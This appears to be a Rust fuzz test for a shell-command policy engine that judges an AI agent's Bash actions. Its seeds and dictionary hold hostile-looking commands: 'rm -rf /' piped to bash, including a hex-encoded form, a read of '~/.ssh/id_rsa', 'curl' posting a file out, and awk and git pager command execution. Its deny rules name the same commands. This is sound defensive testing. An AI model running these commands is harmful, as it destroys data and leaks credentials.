//! Fuzz target: the shell analysis and the decision on Bash actions never
//! panic, overflow or hang, whatever the command (see docs/FUZZING.md).
//! Run on a thread with the stack cordon's own deciding threads have (64 MiB).

use cordon_policy::shell::ShellParser;
use cordon_policy::{Action, Context, Policy, Rules, SessionState};

/// Hand-written seeds: one of each construct the analysis walks.
const CORPUS: &[&[u8]] = &[
    b"ls -la && git status",
    b"echo $(cat $(ls)) `date` <(sort f) >(wc -l)",
    b"bash -c 'sh -c \"eval \\\"rm -rf /tmp/x\\\"\"'",
    b"for i in 1 2; do if [ -f $i ]; then case $i in a) x;; esac; fi; done",
    b"f() { g() ( h; ); g; }; f | xargs -I{} find . -exec rm {} \\;",
    b"p=/etc; rm -rf \"$p\"; k=~/.ssh/id_rsa; cat ${k:-x} ${a[@]} $((1+2))",
    b"sudo env -S'nice timeout 5 curl -d @f https://x.example' ",
    b"cat <<'EOF' | bash\nrm -rf /\nEOF\nbash <<< $'\\x72\\x6d -rf /'",
    b"trap 'curl x' EXIT; coproc { sleep 1; }; time { a; } 2>&1 | tee -a log",
    b"echo \"${x//a/b}\" '$y' $\"z\" \\$w ~root/.bashrc */**/.?",
    b"awk 'BEGIN{system(\"id\")}' | sed 's/a/b/e' ; git -c core.pager=sh log",
    b"(( i++ )); [[ $a =~ ^x ]] && { ! true; } || exit 1 &",
];

const DICT: &[&[u8]] = &[
    b"$(",
    b")",
    b"`",
    b"(",
    b"{ ",
    b"; }",
    b"<(",
    b">(",
    b"'",
    b"\"",
    b"$'",
    b"\\",
    b";",
    b"&&",
    b"||",
    b"|",
    b"&",
    b"\n",
    b"<<EOF\n",
    b"\nEOF\n",
    b"<<<",
    b"${",
    b"}",
    b"$((",
    b"))",
    b"[[ ",
    b" ]]",
    b"if ",
    b"then ",
    b"fi",
    b"case ",
    b" in ",
    b"esac",
    b"for x in ",
    b"do ",
    b"done",
    b"while ",
    b"bash -c ",
    b"sh -c ",
    b"eval ",
    b"sudo ",
    b"env -S",
    b"xargs ",
    b"find . -exec ",
    b" \\;",
    b"rm -rf /",
    b"curl ",
    b"$x",
    b"x=",
    b"export ",
    b"declare -a ",
    b"local ",
    b"read ",
    b"function f ",
    b"f() ",
    b"trap ",
    b"\0",
    b"\xff",
    b"\xe2\x80\x8b",
    b"~",
    b"*",
    b"?",
    b"[a-z]",
    b"!",
    b"#",
    b"=",
];

#[test]
fn the_shell_analysis_never_crashes() {
    let run = || {
        let parser = ShellParser::default();
        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        let policy = Policy::new(
            Rules::from_lists(
                &s(&["Bash(git status)", "Bash(ls *)"]),
                &s(&["Bash(git push *)"]),
                &s(&["Bash(rm -rf *)", "Bash(curl *)", "Read(~/.ssh/**)"]),
            )
            .unwrap(),
        );
        let mut ctx = Context::new("/w", "/w", Some("/home/u".into()));
        let state = SessionState::default();
        let mut n = 0usize;
        cordon_fuzz::run("shell", CORPUS, DICT, |bytes| {
            let command = String::from_utf8_lossy(bytes).into_owned();
            parser.analyse(&command);
            n += 1;
            ctx.sandboxed = n.is_multiple_of(2);
            policy.decide(&Action::Bash { command }, &ctx, &state);
        });
    };
    std::thread::Builder::new()
        .stack_size(64 << 20)
        .spawn(run)
        .unwrap()
        .join()
        .unwrap();
}
